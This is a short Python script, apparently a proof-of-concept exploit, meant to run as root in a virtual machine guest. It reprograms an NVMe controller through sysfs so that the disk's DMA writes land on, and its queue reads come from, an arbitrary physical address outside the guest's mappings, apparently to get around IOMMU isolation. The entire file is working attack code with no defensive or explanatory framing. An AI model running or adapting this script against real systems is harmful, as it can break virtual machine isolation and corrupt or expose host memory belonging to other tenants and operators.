"""As root in a guest of its own: tells the NVMe disk to write where no mapping leads, and to read its orders there.

    outlaw.py ADDRESS      a physical address of the machine

The disk's own buffer holds the order, so that not even that needs a mapping (NVM Express Base 2.0: sections 3.1 and 5).
"""

import mmap
import os
import struct
import subprocess
import sys
import time

BUS = "/sys/bus/pci/devices"
CAP, CC, CSTS, AQA, ASQ, ACQ, CMBMSC, DOORBELL = 0x00, 0x14, 0x1C, 0x24, 0x28, 0x30, 0x50, 0x1000
PAGE = 4096
IDENTIFY = 0x06
#: Where the disk is to see its own buffer; no memory is there.
BUFFER = 0x70_0000_0000


class Disk:
    def __init__(self, folder: str) -> None:
        # Its driver comes once the IOMMU's is there.
        if wait(lambda: os.path.exists(f"{folder}/driver")):
            put(f"{folder}/driver/unbind", os.path.basename(folder))
        put(f"{folder}/enable", "1")
        config = os.open(f"{folder}/config", os.O_RDWR)
        (command,) = struct.unpack("<H", os.pread(config, 2, 4))
        os.pwrite(config, struct.pack("<H", command | 6), 4)  # memory, bus master
        # As words: registers do not take single bytes.
        self.registers = memoryview(region(f"{folder}/resource0", 2 * PAGE)).cast("I")
        self.buffer = memoryview(region(f"{folder}/resource2", PAGE)).cast("I")

    def set(self, offset: int, value: int) -> None:
        self.registers[offset // 4] = value & 0xFFFF_FFFF

    def get(self, offset: int) -> int:
        return self.registers[offset // 4]

    def start(self, orders: int, answers: int) -> bool:
        """Whether it is ready to take orders at ``orders`` and to answer at ``answers``."""
        self.set(CC, 0)
        wait(lambda: not self.get(CSTS) & 1)
        # The lower half takes effect, so it is the last.
        self.set(CMBMSC + 4, BUFFER >> 32)
        self.set(CMBMSC, BUFFER & 0xFFFF_FFFF | 3)
        self.set(AQA, 7 << 16 | 7)
        for register, address in ((ASQ, orders), (ACQ, answers)):
            self.set(register, address)
            self.set(register + 4, address >> 32)
        self.set(CC, 4 << 20 | 6 << 16 | 1)
        return wait(lambda: bool(self.get(CSTS) & 1))


def region(path: str, size: int) -> mmap.mmap:
    file = os.open(path, os.O_RDWR | os.O_SYNC)
    return mmap.mmap(file, size)


def put(path: str, text: str) -> None:
    file = os.open(path, os.O_WRONLY)
    os.write(file, text.encode())
    os.close(file)


def wait(condition: object) -> bool:
    for _ in range(100):
        if condition():  # type: ignore[operator]
            return True
        time.sleep(0.05)
    return False


def main(address: int) -> None:
    subprocess.run(["/bin/busybox", "mount", "-t", "sysfs", "sys", "/sys"], check=True)
    folder = next(f"{BUS}/{name}" for name in sorted(os.listdir(BUS)) if is_disk(f"{BUS}/{name}"))
    disk = Disk(folder)
    # The order is in the buffer; what is to be written, and the answer, go to the address.
    if disk.start(BUFFER, address):
        order = struct.pack("<II16xQQI20x", IDENTIFY, 0, address, 0, 1)
        for word, value in enumerate(struct.unpack("<16I", order)):
            disk.buffer[word] = value
        disk.set(DOORBELL, 1)
        time.sleep(1)
    # The orders themselves are where nothing may be read.
    if disk.start(address, address):
        disk.set(DOORBELL, 1)
        time.sleep(1)


def is_disk(folder: str) -> bool:
    with open(f"{folder}/class") as file:
        return file.read().startswith("0x0108")


if __name__ == "__main__":
    main(int(sys.argv[1], 16))
